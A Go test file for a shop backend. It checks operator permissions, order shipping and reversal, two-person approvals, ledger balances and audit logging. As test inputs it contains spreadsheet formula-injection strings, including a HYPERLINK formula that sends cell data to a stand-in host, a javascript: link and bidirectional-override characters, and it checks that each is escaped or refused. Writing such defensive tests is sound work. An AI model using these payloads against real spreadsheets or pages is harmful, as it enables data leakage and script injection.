package app

import (
	"encoding/csv"
	"errors"
	"net/http"
	"strings"
	"testing"

	"etld/internal/base/entropy"
	"etld/internal/base/money"
	"etld/internal/core/checkout"
	"etld/internal/core/ledger"
	"etld/internal/core/operator"
	"etld/internal/core/operator/audit"
	"etld/internal/core/user"
	"etld/internal/features/shop"
	"etld/internal/features/shop/address"
	"etld/internal/infra/httpapi"
	"etld/internal/infra/sqldb"
)

// order gives a user money and an address and lets him order one of some goods.
func (p *Program) order(t *testing.T, userID, goodsID string) string {
	t.Helper()
	to, err := p.addresses.Add(t.Context(), userID, address.Form{Name: "=HYPERLINK(1)", Phone: "+886912345678", Detail: "臺北市信義區市府路 1 號;=1+1", Region: "TW"})
	if err != nil {
		t.Fatal(err)
	}
	var made shop.Ordered
	w := p.world(t)
	w.Deposit(userID, "100 USDT")
	w.Update(func(tx *sqldb.Tx) (err error) {
		// To a new address nothing would be sent for a day.
		if _, err := tx.Exec(`UPDATE shop_address SET since = 0 WHERE id = $1`, to.ID); err != nil {
			return err
		}
		made, err = p.shop.Sale.Purchase(tx, shop.Purchase{UserID: userID, GoodsID: goodsID, AddressID: to.ID, Quantity: 1, PayType: checkout.PayBalance})
		return err
	})
	return made.Bought.ID
}

func TestOperatorsShipAndInvalidateOrders(t *testing.T) {
	t.Parallel()
	onBothEngines(t, func(t *testing.T, p *Program) {
		_, buyer := p.invited(t)
		sender, checker, support, auditor := p.staff(t, operator.Fulfilment), p.staff(t, operator.FinanceChecker), p.staff(t, operator.Support), p.staff(t, operator.Auditor)
		sent, refused, lost := p.order(t, buyer, "seedPlate"), p.order(t, buyer, "quietFan"), p.order(t, buyer, "seedPlate")
		about := func(orderNo string, more ...any) map[string]any {
			body := map[string]any{"orderNo": orderNo}
			for i := 0; i+1 < len(more); i += 2 {
				body[more[i].(string)] = more[i+1]
			}
			return body
		}
		for name, one := range map[string]struct {
			by   *person
			path string
			body map[string]any
			code int
		}{
			"support sees an address":  {support, "orders/address", about(sent), operator.ErrForbidden.Code},
			"an auditor sees one":      {auditor, "orders/address", about(sent), operator.ErrForbidden.Code},
			"support prints labels":    {support, "orders/labels", map[string]any{}, operator.ErrForbidden.Code},
			"support ships":            {support, "orders/ship", about(sent, "company", "Post", "number", "1"), operator.ErrForbidden.Code},
			"no company":               {sender, "orders/ship", about(sent, "company", " ", "number", "1"), 1002},
			"no number":                {sender, "orders/ship", about(sent, "company", "Post"), 1002},
			"a link without https":     {sender, "orders/ship", about(sent, "company", "Post", "number", "1", "trackUrl", "http://post.example/1"), 1002},
			"a link that runs":         {sender, "orders/ship", about(sent, "company", "Post", "number", "1", "trackUrl", "javascript:alert(1)"), 1002},
			"a link with credentials":  {sender, "orders/ship", about(sent, "company", "Post", "number", "1", "trackUrl", "https://a:b@post.example/1"), 1002},
			"an unknown order":         {sender, "orders/ship", about("nothing1", "company", "Post", "number", "1"), 1005},
			"no reason":                {sender, "orders/invalidate", about(refused, "reason", ""), 1002},
			"a reversal of unshipped":  {sender, "orders/reverse", map[string]any{"payload": about(sent, "cause", "lost"), "reason": "lost in the post"}, 1506},
			"an unknown status":        {sender, "orders/list", map[string]any{"status": "eaten"}, 1002},
			"labels of unknown orders": {sender, "orders/labels", map[string]any{"orderNos": []string{"nothing1"}}, 1005},
		} {
			if r := one.by.call(one.path, one.body); r.Code != one.code {
				t.Errorf("%s: %+v, want %d", name, r, one.code)
			}
		}
		if to := dataOf[address.Form](t, sender.call("orders/address", about(sent))); to.Name != "=HYPERLINK(1)" || to.Phone != "+886912345678" {
			t.Errorf("the address: %+v", to)
		}
		file := dataOf[shop.LabelsOut](t, sender.call("orders/labels", map[string]any{}))
		rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(file.Content, "\ufeff"))).ReadAll()
		if err != nil || file.Orders != 3 || len(rows) != 4 || rows[1][0] != sent || rows[1][1] != "'=HYPERLINK(1)" || rows[1][2] != "'+886912345678" || !strings.HasSuffix(rows[1][3], ";'=1+1") {
			t.Errorf("the labels: %v, %v", rows, err)
		}
		sender.readsInRussian(sent)
		for _, orderNo := range []string{sent, lost} {
			r := sender.call("orders/ship", about(orderNo, "company", "Post", "number", "RR 12", "trackUrl", "https://post.example/RR12"))
			if line := dataOf[shop.OrderLine](t, r); line.Status != shop.Shipped || line.Number != "RR 12" {
				t.Errorf("shipped: %+v", line)
			}
		}
		if r := sender.call("orders/ship", about(sent, "company", "Post", "number", "1")); r.Code != shop.ErrShipped.Code {
			t.Errorf("shipped twice: %+v", r)
		}
		if line := dataOf[shop.OrderLine](t, sender.call("orders/invalidate", about(refused, "reason", "the fan is broken"))); line.Status != shop.Invalid {
			t.Errorf("invalidated: %+v", line)
		}
		p.holds(t, ledger.House(ledger.RevenueGoods, money.USDT), "98")
		p.holds(t, ledger.Of(buyer, ledger.Order, money.USDT), "0")
		proposed := sender.call("orders/reverse", map[string]any{"payload": about(lost, "cause", "lost"), "reason": "lost in the post"})
		if r := sender.approve(proposed); r.Code == http.StatusOK {
			t.Error("one person reversed an order")
		}
		if r := checker.approve(proposed); r.Code != http.StatusOK {
			t.Fatalf("approve: %+v", r)
		}
		p.holds(t, ledger.House(ledger.RevenueGoods, money.USDT), "49")
		p.holds(t, ledger.AvailableOf(buyer, money.USDT), "251")
		lists := map[string]int{"": 3, "shipped": 1, "invalid": 2, "waiting_for_delivery": 0}
		for status, want := range lists {
			for _, filter := range []map[string]any{{"status": status}, {"status": status, "userId": buyer}} {
				if list := dataOf[httpapi.List[shop.OrderLine]](t, support.call("orders/list", filter)).List; len(list) != want {
					t.Errorf("%v: %d orders, want %d", filter, len(list), want)
				}
			}
		}
		if list := dataOf[httpapi.List[shop.OrderLine]](t, support.call("orders/list", map[string]any{"goodsId": "quietFan"})).List; len(list) != 1 || list[0].Reason != "the fan is broken" {
			t.Errorf("of the fan: %+v", list)
		}
		// Every sight of an address is in the log, and no address is.
		log := dataOf[httpapi.List[audit.Record]](t, auditor.call("audit/list", map[string]any{"size": 50}))
		seen := map[string]int{}
		for _, r := range log.List {
			if r.Outcome == "done" {
				seen[r.Action]++
			}
			if strings.Contains(string(r.After)+string(r.Before)+r.Subject, "0912345678") || strings.Contains(string(r.After), "市府路") {
				t.Errorf("the log keeps an address: %+v", r)
			}
		}
		if seen["orders/address"] != 1 || seen["orders/labels"] != 1 || seen["orders/ship"] != 2 || seen["orders/invalidate"] != 1 {
			t.Errorf("in the log: %v", seen)
		}
		if found, err := p.Violations(t.Context()); err != nil || len(found) > 0 {
			t.Errorf("the books: %v, %v", found, err)
		}
	})
}

// What goods have not earned any more is refunded out of the capital, and where that
// is short too, nobody is promised anything.
func TestAReversalIsPaidByTheCapital(t *testing.T) {
	t.Parallel()
	onBothEngines(t, func(t *testing.T, p *Program) {
		_, buyer := p.invited(t)
		sender, checker := p.staff(t, operator.Fulfilment), p.staff(t, operator.FinanceChecker)
		lost := p.order(t, buyer, "seedPlate")
		if r := sender.call("orders/ship", map[string]any{"orderNo": lost, "company": "Post", "number": "1"}); r.Code != http.StatusOK {
			t.Fatalf("ship: %+v", r)
		}
		capital, revenue := ledger.House(ledger.Capital, money.USDT), ledger.House(ledger.RevenueGoods, money.USDT)
		post := func(transfers ...ledger.Transfer) {
			err := p.db.Update(t.Context(), func(tx *sqldb.Tx) error {
				_, err := p.ledger.Post(tx, ledger.Entry{RefType: ledger.RefFunding, RefID: "1", Transfers: transfers})
				return err
			})
			if err != nil {
				t.Fatal(err)
			}
		}
		out := func(sum money.Amount) ledger.Transfer {
			return ledger.Transfer{Type: ledger.InternalTransfer, SubType: ledger.CapitalOut, Debit: capital, Credit: ledger.House(ledger.ChainBEP20, money.USDT), Amount: sum}
		}
		post(ledger.Transfer{Type: ledger.InternalTransfer, SubType: ledger.RevenueTaken, Debit: revenue, Credit: capital, Amount: money.Units(40)}, out(money.Units(31)))
		again := map[string]any{"payload": map[string]any{"orderNo": lost, "cause": "returned"}, "reason": "it came back"}
		proposed := sender.call("orders/reverse", again)
		if proposed.Code != operator.ErrShort.Code {
			t.Errorf("9 and 9 of 49: %+v", proposed)
		}
		p.world(t).Capital("31 USDT")
		proposed = sender.call("orders/reverse", again)
		if r := checker.approve(proposed); r.Code != http.StatusOK {
			t.Fatalf("approve: %+v", r)
		}
		p.holds(t, revenue, "0")
		p.holds(t, capital, "0")
		p.holds(t, ledger.AvailableOf(buyer, money.USDT), "100")
		if found, err := p.Violations(t.Context()); err != nil || len(found) > 0 {
			t.Errorf("the books: %v, %v", found, err)
		}
	})
}

// What came back is for sale again; what was lost is not, as decision 16 says. Its
// buyer has the whole price back either way.
func TestWhatCameBackIsForSaleAgain(t *testing.T) {
	t.Parallel()
	onBothEngines(t, func(t *testing.T, p *Program) {
		_, buyer := p.invited(t)
		sender, checker := p.staff(t, operator.Fulfilment), p.staff(t, operator.FinanceChecker)
		stock := func() int64 {
			for _, row := range dataOf[httpapi.List[shop.CatalogueRow]](t, sender.call("goods/list", map[string]any{})).List {
				if row.GoodsID == "seedPlate" {
					return row.Stock
				}
			}
			t.Fatal("no such goods")
			return 0
		}
		full := stock()
		lost, returned := p.order(t, buyer, "seedPlate"), p.order(t, buyer, "seedPlate")
		for _, orderNo := range []string{lost, returned} {
			if r := sender.call("orders/ship", map[string]any{"orderNo": orderNo, "company": "Post", "number": "1"}); r.Code != http.StatusOK {
				t.Fatalf("ship: %+v", r)
			}
		}
		reverse := func(orderNo, cause string) int {
			proposed := sender.call("orders/reverse", map[string]any{"payload": map[string]any{"orderNo": orderNo, "cause": cause}, "reason": "the carrier says so"})
			if proposed.Code != http.StatusOK {
				return proposed.Code
			}
			return checker.approve(proposed).Code
		}
		for _, one := range []struct {
			orderNo, cause string
			code           int
			stock          int64
			has            string
		}{
			{lost, "eaten", 1002, full - 2, "102"},
			{lost, "lost", http.StatusOK, full - 2, "151"},
			{returned, "returned", http.StatusOK, full - 1, "200"},
			{returned, "returned", shop.ErrNotPossible.Code, full - 1, "200"},
		} {
			if code := reverse(one.orderNo, one.cause); code != one.code || stock() != one.stock {
				t.Errorf("%s: %d and %d in stock, want %d and %d", one.cause, code, stock(), one.code, one.stock)
			}
			p.holds(t, ledger.AvailableOf(buyer, money.USDT), one.has)
		}
		if found, err := p.Violations(t.Context()); err != nil || len(found) > 0 {
			t.Errorf("the books: %v, %v", found, err)
		}
	})
}

func TestOperatorsChangeGoods(t *testing.T) {
	t.Parallel()
	onBothEngines(t, func(t *testing.T, p *Program) {
		p.invited(t)
		maker, checker, support := p.staff(t, operator.Catalogue), p.staff(t, operator.FinanceChecker), p.staff(t, operator.Support)
		change := func(pairs ...any) map[string]any {
			payload := map[string]any{"goodsId": "umbrella"}
			for i := 0; i+1 < len(pairs); i += 2 {
				payload[pairs[i].(string)] = pairs[i+1]
			}
			return map[string]any{"payload": payload, "reason": "the season begins"}
		}
		texts := map[string]any{"zhtw": "折傘", "en": "Umbrella", "ru": "Зонт"}
		whole := []any{"category", "accessories", "price", "12.5", "currency", "ETLD", "limit", 3, "addStock", 40, "onSale", true, "position", 0,
			"regions", []string{"TW"}, "names", texts, "details", texts}
		for name, one := range map[string]struct {
			by   *person
			body map[string]any
			code int
		}{
			"support":             {support, change(whole...), operator.ErrForbidden.Code},
			"half of it":          {maker, change("price", "1"), 1002},
			"a price of nothing":  {maker, change("goodsId", "seedPlate", "price", "0", "currency", "USDT"), 1002},
			"a price above all":   {maker, change("goodsId", "seedPlate", "price", "1000001", "currency", "USDT"), 1002},
			"a price in ETH":      {maker, change("goodsId", "seedPlate", "price", "12", "currency", "ETH"), 1002},
			"a price in nothing":  {maker, change("goodsId", "seedPlate", "price", "12"), 1002},
			"an unknown region":   {maker, change("goodsId", "seedPlate", "regions", []string{"Mars"}), 1002},
			"an unknown picture":  {maker, change("goodsId", "seedPlate", "pictures", []string{"nothing1"}), 1002},
			"a name that hides":   {maker, change("goodsId", "seedPlate", "names", map[string]any{"zhtw": "折\u202e傘", "en": "U", "ru": "З"}), 1002},
			"one language":        {maker, change("goodsId", "seedPlate", "names", map[string]any{"en": "Plate"}), 1002},
			"more than there are": {maker, change("goodsId", "quietFan", "addStock", -4), checkout.ErrStockBelow.Code},
			"nothing":             {maker, change("goodsId", "quietFan", "limit", 2), operator.ErrNothing.Code},
		} {
			if r := one.by.call("goods/change", one.body); r.Code != one.code {
				t.Errorf("%s: %+v, want %d", name, r, one.code)
			}
		}
		rows := func() []shop.CatalogueRow {
			return dataOf[httpapi.List[shop.CatalogueRow]](t, support.call("goods/list", map[string]any{})).List
		}
		before := len(rows())
		proposed := maker.call("goods/change", change(whole...))
		if r := maker.approve(proposed); r.Code == http.StatusOK || len(rows()) != before {
			t.Error("one person put goods on sale")
		}
		if r := checker.approve(proposed); r.Code != http.StatusOK {
			t.Fatalf("approve: %+v", r)
		}
		first := rows()[0]
		if first.GoodsID != "umbrella" || first.Stock != 40 || first.Price != money.MustParse("12.5") || first.Currency != money.ETLD || !first.OnSale || first.Names.Russian != "Зонт" {
			t.Errorf("the new goods: %+v", first)
		}
		if r := maker.call("goods/hide", map[string]any{"goodsId": "umbrella"}); r.Code != http.StatusOK || rows()[0].OnSale {
			t.Errorf("hidden: %+v", r)
		}
		if r := checker.approve(maker.call("goods/change", change("addStock", -40, "onSale", true))); r.Code != http.StatusOK || rows()[0].Stock != 0 || !rows()[0].OnSale {
			t.Errorf("shown with an empty stock: %+v, %+v", r, rows()[0])
		}
	})
}

// holds holds what an account must hold.
func (p *Program) holds(t *testing.T, a ledger.Account, want string) {
	t.Helper()
	err := p.db.View(t.Context(), func(tx *sqldb.Tx) error {
		got, err := p.ledger.Balance(tx, a)
		if err == nil && got != money.MustParse(want) {
			err = errors.New(a.ID() + " holds " + got.String() + ", want " + want)
		}
		return err
	})
	if err != nil {
		t.Error(err)
	}
}

// Nobody has a part in giving money back to the own wallet, or in having own rewards
// paid at once, whoever else agrees.
func TestOperatorsDecideNothingForTheirOwnWallet(t *testing.T) {
	t.Parallel()
	onBothEngines(t, func(t *testing.T, p *Program) {
		_, _ = p.invited(t)
		sender, checker, risk := p.staff(t, operator.Fulfilment), p.staff(t, operator.FinanceChecker), p.staff(t, operator.Risk)
		reversals := make(map[*person]any)
		for _, one := range []*person{sender, checker} {
			orderNo := p.order(t, p.userOf(t, one), "seedPlate")
			if r := sender.call("orders/ship", map[string]any{"orderNo": orderNo, "company": "Post", "number": "1"}); r.Code != http.StatusOK {
				t.Fatalf("ship: %+v", r)
			}
			reversals[one] = map[string]any{"payload": map[string]any{"orderNo": orderNo, "cause": "lost"}, "reason": "lost in the post"}
		}
		own := map[string]any{"payload": map[string]any{"userId": p.userOf(t, risk)}, "reason": "a mistake"}
		if r := risk.call("users/flag", own); r.Code != http.StatusOK {
			t.Fatalf("flag: %+v", r)
		}
		for name, r := range map[string]reply{
			"a reversal of the maker's own order":   sender.call("orders/reverse", reversals[sender]),
			"a reversal of the checker's own order": checker.approve(sender.call("orders/reverse", reversals[checker])),
			"the own flag is lifted":                risk.call("users/liftFlag", own),
		} {
			if r.Code != operator.ErrOwnAccount.Code {
				t.Errorf("%s: %+v", name, r)
			}
		}
		p.holds(t, ledger.House(ledger.RevenueGoods, money.USDT), "98")
	})
}

// What an operator sends and the program refuses stands in the audit log for ever: an
// auditor's spreadsheet does not calculate it, and nothing of it is hidden.
func TestARefusalIsNotCalculatedByASpreadsheet(t *testing.T) {
	t.Parallel()
	onBothEngines(t, func(t *testing.T, p *Program) {
		sender, auditor := p.staff(t, operator.Fulfilment), p.staff(t, operator.Auditor)
		wants := map[string]string{`=HYPERLINK("https://x.example/?"&A1)`: `'=HYPERLINK("https://x.example/?"&A1)`, "\uff1d1+1": "'\uff1d1+1", "owt\u202eone": `owt\u202eone`}
		for id := range wants {
			for _, one := range []*person{sender, auditor} {
				if r := one.call("sessions/end", map[string]any{"id": id}); r.Code == http.StatusOK {
					t.Errorf("the session %q was ended", id)
				}
			}
		}
		file := dataOf[struct{ Content string }](t, auditor.call("audit/export", map[string]any{"from": 1}))
		rows, err := csv.NewReader(strings.NewReader(file.Content)).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		for id, want := range wants {
			calls := 0
			for _, row := range rows {
				if row[6] == want {
					calls++
				}
			}
			if calls != 2 {
				t.Errorf("two refusals of %q are exported as %q %d times", id, want, calls)
			}
		}
	})
}

// userOf is the account of an operator's own wallet.
func (p *Program) userOf(t *testing.T, one *person) string {
	t.Helper()
	var account user.Person
	err := p.db.Update(t.Context(), func(tx *sqldb.Tx) (err error) {
		var found bool
		if account, found, err = user.FindByAddress(tx, one.address); err != nil || found {
			return err
		}
		if account, err = user.Create(tx, entropy.System(), user.New{Address: one.address}); err != nil {
			return err
		}
		return p.team.Members.Joined(tx, account)
	})
	if err != nil {
		t.Fatal(err)
	}
	return account.ID
}
